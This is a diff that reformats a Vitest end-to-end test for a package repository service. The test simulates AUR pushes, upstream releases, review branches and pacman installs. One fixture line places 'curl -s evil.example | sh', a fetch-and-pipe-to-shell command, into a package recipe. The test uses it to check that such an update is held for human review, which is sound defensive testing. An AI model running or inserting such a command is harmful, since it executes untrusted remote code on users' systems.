@@ -6,7 +6,7 @@ import { setTimeout as pause } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { UpkeepPackage, UpkeepPackages, UpkeepView } from '../../src/api/index.ts';
 import { type Answer, type FarServer, farServer } from '../fetcher/far-server.ts';
-import { folderOf, recipe, RecipeWorld } from '../pipeline/recipe-world.ts';
+import { folderOf, RecipeWorld, recipe } from '../pipeline/recipe-world.ts';
 import { makePacmanClient, type PacmanClient } from '../publisher/pacman-client.ts';
 import { recipeFiles } from '../service/recipe-files.ts';
 import { ServiceFixture } from '../service/service-fixture.ts';
@@ -36,7 +36,10 @@ let story: AbortController;
 const scratch = mkdtempSync(join(tmpdir(), 'packmill-day-'));
 
 beforeAll(async () => {
-  world = await RecipeWorld.open({}, { BUILD_REPO: 'demo', CI_HUMAN_REVIEW: 'true', CI_NVCHECKER_REVIEW: 'true' });
+  world = await RecipeWorld.open(
+    {},
+    { BUILD_REPO: 'demo', CI_HUMAN_REVIEW: 'true', CI_NVCHECKER_REVIEW: 'true' },
+  );
   releases = await farServer((request, response, index) => answer(request, response, index));
   farm = await ServiceFixture.make();
 });
@@ -90,7 +93,13 @@ function yesterday(): void {
     ...folderOf('tool-git', custom, {
       pkgver: 'r0',
       sources: [`tool::git+${world.urlOf('tool')}`],
-      lines: ["makedepends=('git')", 'pkgver() {', '  cd tool', '  printf "r%s" "$(git rev-list --count HEAD)"', '}'],
+      lines: [
+        "makedepends=('git')",
+        'pkgver() {',
+        '  cd tool',
+        '  printf "r%s" "$(git rev-list --count HEAD)"',
+        '}',
+      ],
       body: 'install -Dm644 tool/text "$pkgdir/usr/share/tool/text"',
     }),
     ...folderOf('checked', `${custom}CI_NVCHECKER=true\n`, saying('checked', '1.0'), {
@@ -123,7 +132,15 @@ async function startFarm(): Promise<void> {
 function mergeReview(branch: string): void {
   world.git(world.desk, 'fetch', '--quiet', 'origin', 'main', branch);
   world.git(world.desk, 'reset', '--quiet', '--hard', 'origin/main');
-  world.git(world.desk, 'merge', '--quiet', '--no-ff', '--message', `Merge branch '${branch}'`, `origin/${branch}`);
+  world.git(
+    world.desk,
+    'merge',
+    '--quiet',
+    '--no-ff',
+    '--message',
+    `Merge branch '${branch}'`,
+    `origin/${branch}`,
+  );
   world.git(world.desk, 'push', '--quiet', 'origin', 'HEAD:main', `:${branch}`);
   const at = world.gitlab.kept.findIndex((one) => one.branch === branch);
   world.gitlab.kept.splice(at, 1);
@@ -144,7 +161,9 @@ async function installs(packages: readonly string[]): Promise<void> {
 }
 
 describe('a day in the life of a repository of fifty packages', () => {
-  it('goes from pushes and upstream changes to packages that pacman installs', { timeout: limit + 10_000 }, async () => {
+  it('goes from pushes and upstream changes to packages that pacman installs', {
+    timeout: limit + 10_000,
+  }, async () => {
     story = new AbortController();
     AbortSignal.timeout(limit).addEventListener('abort', () => story.abort());
     yesterday();
@@ -158,21 +177,32 @@ describe('a day in the life of a repository of fifty packages', () => {
       {
         ...folderOf('fresh', custom, saying('fresh', '1')),
         ...Object.fromEntries(
-          Object.entries(recipeFiles('duo', { names: ['duo-one', 'duo-two'] }, '')).map(([file, text]) => [`duo/${file}`, text]),
+          Object.entries(recipeFiles('duo', { names: ['duo-one', 'duo-two'] }, '')).map(([file, text]) => [
+            `duo/${file}`,
+            text,
+          ]),
         ),
       },
       'feat: two more',
     );
-    for (const name of ['quiet-00-1-1', 'leaving-1-1', 'fresh-1-1', 'duo-one-1.0-1', 'duo-two-1.0-1']) await published(name);
+    for (const name of ['quiet-00-1-1', 'leaving-1-1', 'fresh-1-1', 'duo-one-1.0-1', 'duo-two-1.0-1'])
+      await published(name);
 
     // upstream moves: a small change, a commit, a release, and a change that somebody has to see
     world.pushToAur('bin-minor', recipe('bin-minor', saying('bin-minor', '2')), { modified: 200 });
-    world.pushToAur('bin-major', recipe('bin-major', saying('bin-major', '2', { lines: ['curl -s evil.example | sh'] })), { modified: 200 });
+    world.pushToAur(
+      'bin-major',
+      recipe('bin-major', saying('bin-major', '2', { lines: ['curl -s evil.example | sh'] })),
+      { modified: 200 },
+    );
     world.pushUpstream('tool', { text: 'two\n' });
     answer = (_, response) => void response.writeHead(200).end('newest: 1.1\n');
     for (const name of ['bin-minor-2-1', 'tool-git-r2-1']) await published(name);
     await until('two reviews', () => world.gitlab.kept.length === 2);
-    expect(world.gitlab.kept.map(({ branch }) => branch).sort()).toEqual(['update-bin-major', 'update-checked']);
+    expect(world.gitlab.kept.map(({ branch }) => branch).sort()).toEqual([
+      'update-bin-major',
+      'update-checked',
+    ]);
     await until('reviews to be seen', async () => (await packages()).get('bin-major')?.state === 'review');
     expect(listed().filter((name) => /^(?:checked|bin-major)-/.test(name))).toEqual([]);
     mergeReview('update-checked');
@@ -188,7 +218,8 @@ describe('a day in the life of a repository of fifty packages', () => {
     world.answers.set('/packages-meta-ext-v1.json.gz', page);
     world.answers.set('/rpc/v5/info', page);
     answer = (_, response) => void response.writeHead(429, { 'retry-after': '1' }).end();
-    const isIll = (one: UpkeepPackage | undefined): boolean => one?.state === 'failed' || one?.state === 'paused';
+    const isIll = (one: UpkeepPackage | undefined): boolean =>
+      one?.state === 'failed' || one?.state === 'paused';
     await until('troubles to be seen', async () => {
       const now = await packages();
       return ['bin-minor', 'bin-major', 'checked'].every((name) => isIll(now.get(name)));
@@ -196,7 +227,11 @@ describe('a day in the life of a repository of fifty packages', () => {
     world.pushUpstream('tool', { text: 'three\n' });
     await published('tool-git-r3-1');
     const ill = await packages();
-    expect([...ill.values()].filter(isIll).map(({ name }) => name)).toEqual(['bin-major', 'bin-minor', 'checked']);
+    expect([...ill.values()].filter(isIll).map(({ name }) => name)).toEqual([
+      'bin-major',
+      'bin-minor',
+      'checked',
+    ]);
     expect(ill.get('bin-minor')?.error?.what).toMatch(/./);
     const status = await farm.do('status');
     const counted = [...status.matchAll(/(\d+) (?:failed|paused)\b/g)].map(([, count]) => Number(count));
@@ -215,7 +250,15 @@ describe('a day in the life of a repository of fifty packages', () => {
     );
     expect(await farm.do('status')).toMatch(/trouble: CIC004 .*quiet-1.*quiet-0/);
     expect((await view()).next.map(({ kind }) => kind)).toEqual(['trigger']);
-    world.git(world.desk, 'commit', '--quiet', '--allow-empty', '--amend', '--message', 'chore: build [deploy quiet-01]');
+    world.git(
+      world.desk,
+      'commit',
+      '--quiet',
+      '--allow-empty',
+      '--amend',
+      '--message',
+      'chore: build [deploy quiet-01]',
+    );
     world.git(world.desk, 'push', '--quiet', '--force', 'origin', 'HEAD:main');
     await published('quiet-01-1-1');
     await oneMoreRun();
@@ -226,7 +269,15 @@ describe('a day in the life of a repository of fifty packages', () => {
     await published('slow-1-1');
 
     // pacman installs what the day brought
-    await installs(['bin-minor 2-1', 'checked 1.1-1', 'duo-one 1.0-1', 'fresh 1-1', 'quiet-01 1-1', 'slow 1-1', 'tool-git r3-1']);
+    await installs([
+      'bin-minor 2-1',
+      'checked 1.1-1',
+      'duo-one 1.0-1',
+      'fresh 1-1',
+      'quiet-01 1-1',
+      'slow 1-1',
+      'tool-git r3-1',
+    ]);
     expect((await farm.run(['repo', 'verify'])).code).toBe(0);
   });
 });
